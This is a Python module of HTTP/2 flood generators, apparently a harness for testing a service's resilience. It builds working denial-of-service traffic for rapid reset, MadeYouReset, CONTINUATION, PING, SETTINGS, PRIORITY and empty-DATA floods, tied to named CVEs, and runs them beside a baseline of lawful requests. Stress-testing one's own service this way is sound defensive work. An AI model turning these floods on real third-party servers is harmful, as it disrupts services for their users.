"""HTTP/2 connections that send more of something than any client has use for."""

import itertools

from attack import ENDED, SHORT
from attacked import MODEL_HEAD, PATH, TYPE
from flood import flood
from frames import (ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY,
                    HEADER_TABLE_SIZE, HEADERS, INITIAL_WINDOW, PADDED, PING, PRIORITY,
                    frame, literal, request, reset, settings, window_update)
from link import IDLE, Burst

GET = request()
UPLOAD = request(f"{PATH}/parameters", "POST", content_type=TYPE)
STREAMS_A_BURST = 64
"""So that the attacker's own work is small beside what it asks for."""


def streams():
    """Ids of a client's streams, in order, a burst at a time."""
    ids = itertools.count(1, 2)
    while True:
        yield list(itertools.islice(ids, STREAMS_A_BURST))


def per_stream(make):
    """Bursts of what `make` sends for each further stream."""
    for ids in streams():
        yield Burst(b"".join(make(stream) for stream in ids), len(ids))


def repeated(data, count=256):
    """The same bytes for ever, many times in one write."""
    while True:
        yield Burst(data * count, count)


def get(stream, flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, stream, GET)


def upload(stream):
    return frame(HEADERS, END_HEADERS, stream, UPLOAD)


@flood("lawful requests")
def lawful(link):
    """No attack: what the service does for a busy client, to compare with."""
    sent = 0
    for ids in streams():
        for stream in ids:
            while sent - link.reader.finished >= 32:
                yield IDLE
            sent += 1
            yield Burst(get(stream), 1)


@flood("rapid reset", outcomes=(ENDED,))
def rapid_reset(link):
    """CVE-2023-44487."""
    return per_stream(lambda stream: get(stream) + reset(stream))


@flood("rapid reset of uploads", outcomes=(ENDED,))
def rapid_reset_of_uploads(link):
    """Each takes its place in the session's queue first."""
    return per_stream(lambda stream: upload(stream) + frame(DATA, 0, stream, MODEL_HEAD)
                      + reset(stream, CANCEL))


def made_you_reset(name, make):
    """CVE-2025-8671: the client makes the server reset the stream, which counts as no reset."""
    flood(f"made you reset: {name}", outcomes=(ENDED,))(lambda link: per_stream(make))


made_you_reset("window + 0", lambda stream: get(stream) + window_update(stream, 0))
made_you_reset("window overflow", lambda stream: (
    upload(stream) + window_update(stream, 2**31 - 1)))
made_you_reset("DATA after the end", lambda stream: get(stream) + frame(DATA, 0, stream, b"x"))
made_you_reset("HEADERS after the end", lambda stream: get(stream) + get(stream))
made_you_reset("depends on itself", lambda stream: get(stream) + frame(
    PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\0"))
made_you_reset("longer than its length", lambda stream: (
    frame(HEADERS, END_HEADERS, stream, request(method="POST", content_length="1"))
    + frame(DATA, END_STREAM, stream, b"xx")))
made_you_reset("malformed field", lambda stream: frame(
    HEADERS, END_HEADERS | END_STREAM, stream, GET + literal("Upper", "case")))


@flood("streams beyond the limit", outcomes=(ENDED,))
def too_many_streams(link):
    """None is ever completed, so the server refuses nearly all (REFUSED_STREAM)."""
    return per_stream(upload)


@flood("CONTINUATION flood", outcomes=(ENDED,))
def continuation(link):
    """CVE-2024-24549 and others: a header block without an end."""
    yield Burst(frame(HEADERS, 0, 1, GET), 1)
    yield from repeated(frame(CONTINUATION, 0, 1, literal("x", "y" * 100)))


@flood("empty CONTINUATION flood", outcomes=(ENDED,))
def empty_continuation(link):
    yield Burst(frame(HEADERS, 0, 1, GET), 1)
    yield from repeated(frame(CONTINUATION, 0, 1))


@flood("PING flood")
def ping(link):
    return repeated(frame(PING, payload=bytes(8)))


@flood("PING flood, unread", outcomes=(ENDED,), reads=False, settings=SHORT)
def ping_unread(link):
    """CVE-2019-9512: the acknowledgements pile up."""
    return repeated(frame(PING, payload=bytes(8)))


@flood("PING acknowledgements")
def ping_acknowledgements(link):
    return repeated(frame(PING, ACK, 0, bytes(8)))


@flood("SETTINGS flood", outcomes=(ENDED,))
def settings_flood(link):
    """CVE-2019-9515."""
    return repeated(settings())


@flood("SETTINGS flood, unread", outcomes=(ENDED,), reads=False, settings=SHORT)
def settings_unread(link):
    return repeated(settings())


@flood("SETTINGS of 2,700 entries", outcomes=(ENDED,))
def settings_entries(link):
    return repeated(settings(*[(INITIAL_WINDOW, 65535 - index % 2) for index in range(2700)]), 16)


@flood("SETTINGS, header table flips")
def settings_flips(link):
    while True:
        for _ in range(64):
            yield Burst(settings((HEADER_TABLE_SIZE, 0)) + settings((HEADER_TABLE_SIZE, 65536)), 2)


@flood("SETTINGS, windows of many streams")
def settings_windows(link):
    """Each change walks over every open stream."""
    yield Burst(b"".join(upload(stream) for stream in range(1, 200, 2)), 0)
    while True:
        for window in (0, 65535):
            yield Burst(settings((INITIAL_WINDOW, window)), 1)


@flood("PRIORITY flood")
def priority(link):
    """CVE-2019-9513: of idle streams, each depending on the one before."""
    return per_stream(lambda stream: frame(
        PRIORITY, 0, stream + 2, stream.to_bytes(4, "big") + b"\xff"))


@flood("empty DATA flood")
def empty_data(link):
    """CVE-2019-9518."""
    yield Burst(upload(1), 1)
    yield from repeated(frame(DATA, 0, 1))


@flood("padded empty DATA flood")
def padded_data(link):
    """Padding counts against the window but brings nothing."""
    yield Burst(upload(1), 1)
    yield from repeated(frame(DATA, PADDED, 1, b"\xff" + bytes(255)))


@flood("DATA of one byte")
def tiny_data(link):
    for first in streams():
        for stream in first:
            yield Burst(upload(stream), 1)
            for _ in range(64):
                yield Burst(frame(DATA, 0, stream, b"\0") * 64, 64)
            yield Burst(reset(stream), 1)


@flood("empty HEADERS flood", outcomes=(ENDED,))
def empty_headers(link):
    """CVE-2019-9518 with HEADERS: requests without a method."""
    return per_stream(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream))


@flood("trailers without an end", outcomes=(ENDED,))
def trailers(link):
    return per_stream(lambda stream: upload(stream)
                      + frame(HEADERS, END_HEADERS, stream, literal("x", "y")))


@flood("trailers for uploads")
def real_trailers(link):
    return per_stream(lambda stream: frame(
        HEADERS, END_HEADERS, stream, request("/livez", "POST"))
        + frame(HEADERS, END_HEADERS | END_STREAM, stream, literal("x", "y" * 1000)))


@flood("WINDOW_UPDATE flood")
def window_updates(link):
    yield Burst(upload(1), 1)
    yield from repeated(window_update(1, 1))


@flood("RST_STREAM of idle streams", outcomes=(ENDED,))
def reset_idle(link):
    """PROTOCOL_ERROR for the first, or ENHANCE_YOUR_CALM for many that are read at once."""
    return per_stream(reset)


@flood("RST_STREAM of closed streams")
def reset_closed(link):
    yield Burst(get(1), 1)
    while not link.reader.finished:
        yield IDLE
    yield from repeated(reset(1))


@flood("GOAWAY, then requests")
def goaway(link):
    return per_stream(lambda stream: frame(GOAWAY, payload=bytes(8)) + get(stream))


@flood("frames of unknown types")
def unknown_frames(link):
    while True:
        for kind in range(0x20, 0x100):
            yield Burst(frame(kind, 0xff, 0, b"x" * 10) * 16, 16)


@flood("large frames of unknown types")
def large_unknown_frames(link):
    return repeated(frame(0x42, 0, 0, bytes(16384)), 8)


@flood("requests for nothing")
def not_found(link):
    """Errors cost the service more than answers; the client reads them."""
    block = request("/v1/sessions/none/averages/main")
    return per_stream(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
